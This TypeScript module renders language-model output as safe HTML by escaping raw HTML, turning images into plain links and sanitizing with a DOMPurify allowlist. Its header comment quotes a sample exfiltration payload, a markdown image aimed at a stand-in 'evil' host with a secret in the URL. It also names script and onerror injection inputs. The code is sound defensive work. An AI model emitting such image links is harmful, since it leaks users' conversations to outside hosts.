/**
 * Model output as safe HTML. Model text is untrusted (a prompt can make a model write anything), so two
 * independent layers stand between it and the DOM:
 *
 *   1. marked (GFM, single newlines become <br>) with raw HTML turned off: block and inline `html` tokens
 *      render as escaped text, so `<script>` or `<img onerror=...>` shows up as those characters.
 *      Images render as plain links: loading a URL the model chose could leak the conversation
 *      (`![](https://evil/?q=secret)`) without a click.
 *   2. DOMPurify over the result, with only the tags marked emits allowed; it drops `javascript:` and other
 *      unsafe URLs. Every surviving link opens in a new tab with rel="noopener noreferrer".
 *
 * A partially streamed text is fine as is: an unclosed code fence runs to the end of the text (CommonMark),
 * an unclosed `**` stays literal until its closer arrives.
 */
import DOMPurify, { type DOMPurify as Purifier } from 'dompurify';
import { Marked, type Tokens } from 'marked';

const ENTITIES: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' };

/** Text as HTML text or attribute value: every character that HTML gives a meaning to is escaped. */
export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => ENTITIES[c]);
}

const marked = new Marked({
  gfm: true,
  breaks: true,
  async: false,
  renderer: {
    // Raw HTML from the model is shown, never parsed. A block keeps its line breaks.
    html({ text, block }: Tokens.HTML | Tokens.Tag): string {
      if (!block) return escapeHtml(text);
      return `<p>${escapeHtml(text.trimEnd()).replaceAll('\n', '<br>')}</p>\n`;
    },
    image({ href, text }: Tokens.Image): string {
      const label = text.trim() === '' ? href : text;
      return `<a href="${escapeHtml(href)}">${escapeHtml(label)}</a>`;
    },
  },
});

/** Markdown → HTML with raw HTML escaped: layer 1 alone (pure, no DOM needed; unit-tested in Node). */
export function markdownToHtml(text: string): string {
  return marked.parse(text, { async: false });
}

// What marked emits, and nothing else: a model cannot smuggle in <form>, <style>, <iframe> or <svg>.
const ALLOWED_TAGS = [
  'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 'del', 'code', 'pre', 'blockquote',
  'ul', 'ol', 'li', 'input', 'a', 'table', 'thead', 'tbody', 'tr', 'th', 'td',
];
const ALLOWED_ATTR = ['href', 'title', 'start', 'type', 'checked', 'disabled', 'align', 'class'];

let purifier: Purifier | undefined;

/** A DOMPurify instance of our own (so its hook does not change other users of the default one). */
function purify(): Purifier {
  if (purifier) return purifier;
  const p = DOMPurify(window);
  p.addHook('afterSanitizeAttributes', (node) => {
    if (node.tagName === 'A' && node.hasAttribute('href')) {
      node.setAttribute('target', '_blank');
      node.setAttribute('rel', 'noopener noreferrer');
    }
    // marked's only <input> is a task-list checkbox: keep it one, and display only
    if (node.tagName === 'INPUT') {
      node.setAttribute('type', 'checkbox');
      node.setAttribute('disabled', '');
    }
  });
  purifier = p;
  return p;
}

/** Untrusted markdown (model output, possibly mid-stream) → HTML that is safe to put in the DOM. Browser only. */
export function renderMarkdown(text: string): string {
  return purify().sanitize(markdownToHtml(text), { ALLOWED_TAGS, ALLOWED_ATTR });
}
